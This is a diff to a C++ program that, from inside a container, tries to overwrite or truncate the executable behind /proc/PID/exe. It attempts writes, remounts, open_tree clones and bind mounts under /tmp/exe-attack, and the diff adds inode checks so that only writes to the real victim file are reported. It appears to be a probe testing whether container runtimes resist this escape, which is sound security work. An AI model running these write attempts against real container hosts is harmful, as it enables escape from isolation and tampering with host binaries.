@@ -25,6 +25,18 @@
 namespace {
 
 FILE* out;
+// The file that was grabbed: the victim's. A path below /proc/PID leads elsewhere once the victim
+// has executed the container's own program, which may be cloned and bound at will.
+struct stat victim;
+
+bool is_victim(const struct stat& file) {
+  return file.st_dev == victim.st_dev && file.st_ino == victim.st_ino;
+}
+
+bool is_victim(int fd) {
+  struct stat file = {};
+  return fstat(fd, &file) == 0 && is_victim(file);
+}
 
 void pause_ms(long ms) {
   const timespec t = {ms / 1000, ms % 1000 * 1'000'000};
@@ -42,7 +54,7 @@ void try_open(const std::string& path, const char* way) {
   for (int flags : {O_RDWR, O_WRONLY, O_WRONLY | O_APPEND}) {
     int fd = open(path.c_str(), flags | O_CLOEXEC);
     if (fd < 0) continue;
-    try_write(fd, way);
+    if (is_victim(fd)) try_write(fd, way);
     close(fd);
   }
   if (truncate(path.c_str(), 100) == 0) std::fprintf(out, "wrote truncate %s\n", way);
@@ -57,17 +69,18 @@ void clear_read_only(const std::string& path, const char* when) {
   if (mount("none", path.c_str(), nullptr, MS_REMOUNT | MS_BIND, nullptr) == 0) say("remount-bind");
   if (mount("none", path.c_str(), nullptr, MS_REMOUNT, nullptr) == 0) say("remount");
   int tree = open_tree(AT_FDCWD, path.c_str(), OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
-  if (tree >= 0) {
+  if (tree >= 0 && is_victim(tree)) {
     say("open_tree");
     if (mount_setattr(tree, "", AT_EMPTY_PATH, &attributes, sizeof attributes) == 0)
       say("clone+mount_setattr");
     try_open("/proc/self/fd/" + std::to_string(tree), "through a clone");
-    close(tree);
   }
+  if (tree >= 0) close(tree);
   if (mkdir("/tmp/exe-attack", 0700) == 0 || errno == EEXIST) {
     close(open("/tmp/exe-attack/bind", O_CREAT | O_WRONLY | O_CLOEXEC, 0600));
     if (mount(path.c_str(), "/tmp/exe-attack/bind", nullptr, MS_BIND, nullptr) == 0) {
-      say("bind");
+      struct stat bound = {};
+      if (stat("/tmp/exe-attack/bind", &bound) == 0 && is_victim(bound)) say("bind");
       mount("none", "/tmp/exe-attack/bind", nullptr, MS_REMOUNT | MS_BIND, nullptr);
       try_open("/tmp/exe-attack/bind", "through a bind mount");
       umount2("/tmp/exe-attack/bind", MNT_DETACH);
@@ -115,6 +128,7 @@ int find_victim(std::string& link) {
     int fd = open(link.c_str(), O_RDONLY | O_CLOEXEC);
     if (fd < 0) continue;
     if (fstat(fd, &other) == 0 && (other.st_ino != own.st_ino || other.st_dev != own.st_dev)) {
+      victim = other;
       found = fd;
       break;
     }
@@ -137,6 +151,7 @@ int main(int argc, char** argv) {
   int kept = -1;
   if (mode == "grab") {
     kept = open(link.c_str(), O_RDONLY | O_CLOEXEC);
+    if (kept >= 0) fstat(kept, &victim);
   } else {
     for (int i = 0; i < 200'000 && kept < 0; ++i) kept = find_victim(link);
   }
